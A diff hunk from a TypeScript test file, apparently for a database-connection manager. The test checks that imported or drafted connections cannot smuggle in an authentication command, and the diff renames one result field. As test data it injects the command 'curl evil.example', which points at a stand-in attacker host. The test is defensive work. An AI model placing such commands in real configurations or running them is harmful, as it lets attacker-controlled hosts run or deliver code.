@@ -102,7 +102,7 @@ test('neither an import, a copy of a connection nor a draft brings a program in'
   const { value } = (await host.call('connections.export', {})) as { value: { text: string } };
   for (const mode of ['skip', 'replace', 'rename']) {
     const answer = await host.call('connections.import', { text: value.text.replaceAll('aws token', 'curl evil.example'), mode });
-    expect(answer).toMatchObject({ ok: true, value: { commandsLeftOut: mode === 'skip' ? 0 : 2 } });
+    expect(answer).toMatchObject({ ok: true, value: { commandsNeeded: mode === 'skip' ? 0 : 2 } });
     expect(await saved(host)).not.toContain('evil');
   }
   await host.call('connections.keep-draft', { id: 'd', engine: 'postgres', values: { ...VALUES, 'auth.command': 'curl evil.example' } });
